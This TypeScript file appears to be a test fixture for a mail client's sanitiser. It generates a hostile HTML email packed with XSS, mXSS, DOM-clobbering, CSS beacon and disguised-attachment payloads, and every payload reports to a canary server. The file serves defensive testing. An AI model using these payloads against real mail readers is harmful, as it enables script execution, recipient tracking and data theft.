/**
 * A mail that tries to get something out of whoever looks at it, or to run something: every way that we know of, each
 * with an address of its own at a server that counts. Only `/image…` may ever be asked for, and only after the reader
 * said so.
 */

/** What a script would do, however it came to run: say so to everyone above it, and to the server. */
const script = (canary: string, name: string): string =>
  `for(const w of [parent,top])w.postMessage('ran ${name}','*');fetch('${canary}/ran-${name}');alert('${name}')`

/** @param canary origin of the server that counts */
export function hostileHtml(canary: string): string {
  const run = (name: string): string => script(canary, name).replaceAll('"', '&quot;')
  const framed = `&lt;script&gt;${run('srcdoc')}&lt;/script&gt;`
  return [
    `<!doctype html><html><head><base href="${canary}/base/"><meta http-equiv="refresh" content="0;url=${canary}/refresh">`,
    `<meta http-equiv="Content-Security-Policy" content="default-src *">`,
    ...['stylesheet', 'prefetch', 'preload', 'preconnect', 'dns-prefetch', 'icon', 'prerender', 'modulepreload'].map(
      (rel) => `<link rel="${rel}" href="${canary}/link-${rel}" as="script">`,
    ),
    `<link rel="import" href="${canary}/import">`,
    `<style>@import url("${canary}/css-import");@import "${canary}/css-import-2";`,
    `@font-face{font-family:f;src:url("${canary}/font")}body{font-family:f;background:url("${canary}/image-css")}`,
    `p{cursor:url("${canary}/image-cursor"),auto;list-style:url("${canary}/image-list")}`,
    `p::before{content:url("${canary}/image-content")}a[href*="secret"]{background:url("${canary}/image-attribute")}`,
    `div{background:image-set("${canary}/image-set" 1x);mask:url("${canary}/image-mask.svg#m");filter:url("${canary}/filter.svg#f")}`,
    `</style><script>${script(canary, 'head')}</script><script src="${canary}/script"></script></head>`,
    `<body onload="${run('onload')}" background="${canary}/image-body">`,
    `<script>${script(canary, 'body')}</script><script type="module">${script(canary, 'module')}</script>`,
    `<img src="${canary}/image-plain"><img src="//${canary.replace('http://', '')}/image-relative">`,
    `<img src="x" onerror="${run('onerror')}"><img src=x: onerror=${run('unquoted').replaceAll(' ', '/')}>`,
    `<img srcset="${canary}/image-srcset 1x" lowsrc="${canary}/lowsrc" dynsrc="${canary}/dynsrc">`,
    `<picture><source srcset="${canary}/image-source"><img></picture>`,
    `<svg onload="${run('svg')}"><script>${script(canary, 'svg-script')}</script><image href="${canary}/image-svg"/>`,
    `<use href="${canary}/use.svg#x"/><animate attributeName="href" values="javascript:${run('animate')}"/>`,
    `<foreignObject><iframe src="${canary}/foreign"></iframe></foreignObject><set onbegin="${run('set')}"/></svg>`,
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run('mxss')}&gt;">`,
    `</mglyph></table></mtext></math><math href="javascript:${run('math')}">m</math>`,
    `<svg></p><style><a id="</style><img src=1 onerror=${run('mxss-2')}>"></a></style></svg>`,
    `<noscript><p title="</noscript><img src=x onerror=${run('noscript')}>"></p></noscript>`,
    `<iframe src="${canary}/iframe"></iframe><iframe srcdoc="${framed}"></iframe>`,
    `<iframe src="javascript:${run('iframe-js')}"></iframe><iframe src="cid:page"></iframe>`,
    `<object data="${canary}/object"></object><object data="data:text/html,${framed}"></object>`,
    `<embed src="${canary}/embed"><applet code="${canary}/applet"></applet><frameset><frame src="${canary}/frame">`,
    `</frameset><video src="${canary}/video" poster="${canary}/image-poster" autoplay></video>`,
    `<audio src="${canary}/audio" autoplay></audio><video><source src="${canary}/video-source"></video>`,
    `<form action="${canary}/form" method="get"><input name="q" autofocus onfocus="${run('focus')}">`,
    `<input type="image" src="${canary}/image-input"><button formaction="${canary}/formaction">go</button></form>`,
    `<details open ontoggle="${run('toggle')}"><summary>s</summary></details><marquee onstart="${run('marquee')}">m</marquee>`,
    `<p style="animation-name:x;background:url(${canary}/image-style)" onanimationstart="${run('animation')}">p</p>`,
    `<div style="background-image:url(&quot;${canary}/image-style-2&quot;)">d</div><table background="${canary}/image-table"><tr><td background="${canary}/image-cell">t</td></tr></table>`,
    `<a id="js" href="javascript:${run('link')}">javascript</a><a id="js2" href=" jav&#x09;ascript:${run('link-2')}">tab</a>`,
    `<a id="data" href="data:text/html,${framed}">data</a><a id="vb" href="vbscript:msgbox(1)">vb</a>`,
    `<a id="top" href="${canary}/top" target="_top">top</a><a id="ping" href="https://example.invalid/" ping="${canary}/ping">ping</a>`,
    `<img src="data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg' onload='${run('data-svg')}'/%3E">`,
    `<img src="cid:drawing"><img src="cid:page"><object data="cid:drawing"></object>`,
    `<img name="body"><form id="getElementById"><input name="attributes"></form><a id="location" href="x">clobber</a>`,
    `<template><img src=x onerror="${run('template')}"></template><xmp><img src="${canary}/xmp"></xmp>`,
    `<img src="${canary.replace('http:', 'http:\\\\').replace('//', '')}/backslashes"><img src="\\\\${canary.replace('http://', '')}/unc"><img src="/\\${canary.replace('http://', '')}/mixed">`,
    `<img src="ht&#10;tp:&#9;//${canary.replace('http://', '')}/image-newline"><img src="&#1;${canary}/image-control">`,
    `<img attributionsrc="${canary}/attribution"><a href="https://example.invalid/" attributionsrc="${canary}/attribution-2">a</a>`,
    `<script type="speculationrules">{"prefetch":[{"source":"list","urls":["${canary}/speculation"]}]}</script>`,
    `<meta http-equiv="x-dns-prefetch-control" content="on"><meta http-equiv="set-cookie" content="a=b"><meta http-equiv="origin-trial" content="x">`,
    `<meta name="referrer" content="unsafe-url"><link rel="manifest" href="${canary}/manifest"><link rel="alternate stylesheet" href="${canary}/alternate">`,
    `<div><template shadowrootmode="open"><style>@import "${canary}/shadow-import"</style><img src="${canary}/shadow" onerror="${run('shadow')}"></template></div>`,
    `<svg><style>&lt;/style&gt;&lt;img src=x onerror=${run('mxss-style').replaceAll(' ', '/')}&gt;</style></svg>`,
    `<math><annotation-xml encoding="text/html"><style><img src=x onerror=${run('mxss-annotation').replaceAll(' ', '/')}></style></annotation-xml></math>`,
    `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${run('mxss-form').replaceAll(' ', '/')}>`,
    `</style></mglyph></form></mtext></math><svg><use href="data:image/svg+xml,%3Csvg id='x' xmlns='http://www.w3.org/2000/svg'%3E%3Cimage href='${canary}/use-data'/%3E%3C/svg%3E#x"/></svg>`,
    `<style>@\\69mport "${canary}/css-escaped";@namespace url("${canary}/namespace");@property --a{syntax:"<url>";inherits:true;initial-value:url("${canary}/property")}`,
    `p{background:\\75rl("${canary}/css-escaped-url");background-image:-webkit-image-set(url("${canary}/webkit-set") 1x);shape-outside:url("${canary}/shape");offset-path:url("${canary}/offset.svg#o")}`,
    `@font-face{font-family:g;src:local("none"),url("${canary}/font-2") format("woff2");unicode-range:U+41}body{font-family:g}@view-transition{navigation:auto}</style>`,
    `<xml><import href="${canary}/xml-import"></xml><bgsound src="${canary}/bgsound"><fencedframe src="${canary}/fenced"></fencedframe>`,
    `<iframe sandbox="allow-scripts allow-same-origin" src="data:text/html,${framed}"></iframe><embed type="text/html" src="data:text/html,${framed}">`,
    `<dialog open><a href="x" autofocus onfocus="${run('dialog')}">d</a></dialog><p id="end">the end of it</p></body></html>`,
  ].join('\n')
}

/** @param id without angle brackets */
export function hostileMail(canary: string, id: string): string {
  const tag = `<img src=x onerror="${script(canary, 'header')}">`
  const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="${script(canary, 'cid-svg')}"><script>${script(canary, 'cid-script')}</script></svg>`
  const page = `<script>${script(canary, 'cid-page')}</script><img src="${canary}/image-page">`
  const parts = [
    `Content-Type: text/html; charset=utf-8\r\n\r\n${hostileHtml(canary)}`,
    `Content-Type: image/svg+xml\r\nContent-ID: <drawing>\r\n\r\n${svg}`,
    `Content-Type: text/html; name="page.html"\r\nContent-ID: <page>\r\nContent-Disposition: attachment; filename="../../${'x'.repeat(9)}\u202e<b>lmth.exe"\r\n\r\n${page}`,
  ]
  return [
    `From: "${tag.replaceAll('"', "'")}" <alice@lab.test>`,
    'To: bob@lab.test',
    `Subject: ${tag}`,
    `Message-ID: <${id}>`,
    'MIME-Version: 1.0',
    'Content-Type: multipart/related; boundary="hostile"',
    '',
    ...parts.map((part) => `--hostile\r\n${part.replace(/\r?\n/g, '\r\n')}`),
    '--hostile--',
    '',
  ].join('\r\n')
}
